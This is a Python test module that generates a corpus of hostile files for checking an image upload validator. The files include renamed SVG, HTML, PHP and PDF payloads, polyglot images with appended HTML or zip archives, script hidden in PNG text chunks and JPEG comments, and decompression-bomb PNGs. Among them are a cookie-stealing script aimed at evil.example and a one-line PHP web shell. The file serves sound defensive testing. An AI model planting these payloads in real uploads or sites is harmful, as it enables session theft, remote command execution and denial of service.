"""A corpus of hostile uploads, generated in memory (nothing hostile is stored in the repository).

Each entry is (name shown to the validator, bytes, what the error message must say).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from tests.support.images import image_bytes


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_of_zeros(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of the given size whose IDAT is all zeros: a tiny file that inflates enormously."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed pixels
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_with_text_chunk(text: bytes) -> bytes:
    png = image_bytes(fmt="PNG", seed=3)
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + _png_chunk(b"tEXt", b"Comment\x00" + text) + png[iend:]


def jpeg_with_comment(comment: bytes) -> bytes:
    jpeg = image_bytes(seed=4)
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<html><body>hidden</body></html>")
    return out.getvalue()


def _other_format(fmt: str, **kwargs) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 120, 90)).save(out, format=fmt, **kwargs)
    return out.getvalue()


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF"
)

# name -> (factory, words the error message must contain)
CORPUS: dict[str, tuple[Callable[[], bytes], str]] = {
    "zero-byte.jpg": (lambda: b"", "is empty"),
    "svg-renamed.jpg": (lambda: SVG, "not a JPEG or PNG"),
    "html-renamed.jpg": (lambda: HTML, "not a JPEG or PNG"),
    "php-renamed.png": (lambda: b"<?php system($_GET['c']); ?>", "not a JPEG or PNG"),
    "gif-renamed.jpg": (lambda: _other_format("GIF"), "not a JPEG or PNG"),
    "tiff-renamed.jpg": (lambda: _other_format("TIFF"), "not a JPEG or PNG"),
    "webp-renamed.jpg": (lambda: _other_format("WEBP"), "not a JPEG or PNG"),
    "bmp-renamed.png": (lambda: _other_format("BMP"), "not a JPEG or PNG"),
    "pdf-renamed.jpg": (lambda: PDF, "not a JPEG or PNG"),
    "zip-renamed.jpg": (_zip_bytes, "not a JPEG or PNG"),
    "jpeg-plus-html.jpg": (lambda: image_bytes(seed=1) + HTML, "HTML or script"),
    "jpeg-plus-zip.jpg": (lambda: image_bytes(seed=2) + _zip_bytes(), "archive"),
    "png-plus-zip.png": (lambda: image_bytes(fmt="PNG", seed=2) + _zip_bytes(), "archive"),
    "png-script-chunk.png": (lambda: png_with_text_chunk(b"<script>alert(1)</script>"), "HTML or script"),
    "jpeg-script-comment.jpg": (lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "HTML or script"),
    "jpeg-php-comment.jpg": (lambda: jpeg_with_comment(b"<?php echo 1; ?>"), "HTML or script"),
    "bomb-20k-square.png": (lambda: png_of_zeros(20_000, 20_000), "too large to decode safely"),
    "bomb-9k-square.png": (lambda: png_of_zeros(9_000, 9_000), "too many pixels"),
    "huge-dimensions-60000x1000.png": (lambda: png_of_zeros(60_000, 1_000), "too many pixels"),
    "truncated.jpg": (lambda: image_bytes(width=256, height=256, seed=5)[:3000], "damaged or truncated"),
    "truncated.png": (
        lambda: image_bytes(width=256, height=256, fmt="PNG", seed=6)[:5000],
        "damaged or truncated",
    ),
    "jpeg-magic-then-garbage.jpg": (
        lambda: b"\xff\xd8\xff\xe0" + b"\x00garbage" * 200,
        "damaged or truncated",
    ),
    "png-magic-only.png": (lambda: b"\x89PNG\r\n\x1a\n", "damaged or truncated"),
    "one-pixel.png": (lambda: image_bytes(width=1, height=1, fmt="PNG"), "too small"),
    "sliver-4000x2.png": (lambda: png_of_zeros(4_000, 2), "too small"),
}
